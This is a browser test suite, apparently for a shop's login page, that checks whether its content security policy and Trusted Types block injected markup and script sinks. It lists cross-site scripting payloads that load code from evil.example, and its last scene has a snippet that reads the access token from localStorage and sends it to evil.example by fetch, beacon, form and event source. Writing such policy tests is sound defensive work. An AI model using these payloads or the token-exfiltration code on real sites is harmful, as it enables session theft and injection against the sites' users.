/** Were markup ever taken for more than text: what the policy of the pages leaves of it. */
import type { Page } from 'playwright-core';
import { mustBe } from './stage/must-be';
import { logIn, withPage } from './stage/page';
import { newPerson } from './stage/people';
import type { Scene } from './stage/stage';

/** What somebody would put into a page that repeats it, each in a way of its own to run or to send something. */
const injected: Record<string, string> = {
  'an inline script': '<script>ran=1</script>',
  'an inline script with a guessed nonce': '<script nonce="a">ran=1</script>',
  'a handler': '<img src=x onerror="ran=1">',
  'a script from elsewhere': '<script src="https://evil.example/x.js"></script>',
  'a script of a picture’s address': '<script src="/uploads/x.jpg"></script>',
  'a data script': '<script src="data:text/javascript,ran=1"></script>',
  'a frame with a page in it': '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  'a frame from elsewhere': '<iframe src="https://evil.example/"></iframe>',
  'a script address in a frame': '<iframe src="javascript:parent.ran=1"></iframe>',
  'an object': '<object data="data:text/html,<script>parent.ran=1</script>"></object>',
  'an SVG animation': '<svg><animate onbegin="ran=1" attributeName="x" dur="1s"></animate></svg>',
  'a base for all addresses': '<base href="https://evil.example/">',
  'a style sheet from elsewhere': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'an inline style sheet': '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  'a page that follows by itself': '<meta http-equiv="refresh" content="0;url=javascript:ran=1">',
};

/** Notes what reaches evil.example. */
async function watchEvil(page: Page): Promise<string[]> {
  const asked: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  return asked;
}

/** Opens the page with this markup at the end of its body, as a server would send it that does not escape; notes what it asks others for. */
async function openWith(page: Page, address: string, html: string): Promise<string[]> {
  const asked = await watchEvil(page);
  await page.route(address, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</noscript>', `</noscript>${html}`);
    await route.fulfill({ response, body });
  });
  await page.goto(address, { waitUntil: 'load' });
  await page.getByRole('heading', { name: 'Log in to OCS' }).waitFor();
  return asked;
}

const injections = Object.entries(injected).map(([name, html]): Scene => ({
  name: `page into which somebody brought ${name}`,
  expected: 'the policy stops it; the page works',
  short: true,
  async play(stage) {
    return withPage(stage, async (page) => {
      const asked = await openWith(page, `${stage.shop}/login`, html);
      mustBe('ran', await page.evaluate(() => 'ran' in window), false);
      mustBe('asked evil.example', asked, []);
      mustBe('the page shows', await page.getByRole('button', { name: 'Log in', exact: true }).isVisible(), true);
      return 'stopped';
    });
  },
}));

/** What a library in the page could be talked into, each as an expression that a debugger runs there. */
const sinks = {
  innerHTML: "document.createElement('div').innerHTML = html",
  outerHTML: "document.body.appendChild(document.createElement('p')).outerHTML = html",
  insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', html)",
  'document.write': 'document.write(html)',
  srcdoc: "document.createElement('iframe').srcdoc = html",
  DOMParser: "new DOMParser().parseFromString(html, 'text/html')",
  'a script’s address': "document.createElement('script').src = 'https://evil.example/x.js'",
  'a script’s text': "document.createElement('script').text = 'ran=1'",
  eval: "(0, eval)('ran=1')",
  'new Function': "new Function('ran=1')()",
  'setTimeout with text': "setTimeout('ran=1')",
  'another policy': "trustedTypes.createPolicy('mine', { createHTML: (text) => text }).createHTML(html)",
  'a worker': "new Worker('data:text/javascript,1')",
  import: "import('https://evil.example/x.js')",
};

const trustedTypes: Scene = {
  name: `text that a library makes code or markup of, in ${String(Object.keys(sinks).length)} ways`,
  expected: 'each throws; nothing runs, nothing is asked for',
  short: true,
  async play(stage) {
    const { shop } = stage;
    const buyer = await newPerson(shop, 'buyer');
    return withPage(stage, async (page) => {
      const asked = await watchEvil(page);
      await logIn(page, shop, buyer.email);
      for (const [name, expression] of Object.entries(sinks)) {
        // What runs at once has the debugger's rights; what runs later the page's.
        const later = 'await new Promise((resolve) => setTimeout(resolve))';
        const attempt = `(async () => { ${later}; const html = '<img src=x onerror=ran=1>'; await (${expression}) })().then(() => 'passed', () => 'thrown')`;
        mustBe(name, await page.evaluate(attempt), 'thrown');
      }
      mustBe('ran', await page.evaluate(() => 'ran' in window), false);
      mustBe('asked evil.example', asked, []);
      return 'each threw';
    });
  },
};

const exfiltration: Scene = {
  name: 'access token sent away by a script that got in all the same: fetch, beacon, form, socket',
  expected: 'the policy lets it reach the shop alone',
  short: true,
  async play(stage) {
    const { shop } = stage;
    const buyer = await newPerson(shop, 'buyer');
    return withPage(stage, async (page) => {
      const asked = await watchEvil(page);
      await logIn(page, shop, buyer.email);
      const outcomes = await page.evaluate(async () => {
        const address = `https://evil.example/?${String(localStorage.getItem('access-token'))}`;
        const form = document.body.appendChild(document.createElement('form'));
        form.action = address;
        navigator.sendBeacon(address);
        new EventSource(address).close();
        form.submit();
        const fetched = await fetch(address).then(
          () => 'sent',
          () => 'refused',
        );
        return [fetched];
      });
      mustBe('fetch', outcomes, ['refused']);
      mustBe('asked evil.example', asked, []);
      return 'refused';
    });
  },
};

export const policyScenes: Scene[] = [...injections, trustedTypes, exfiltration];
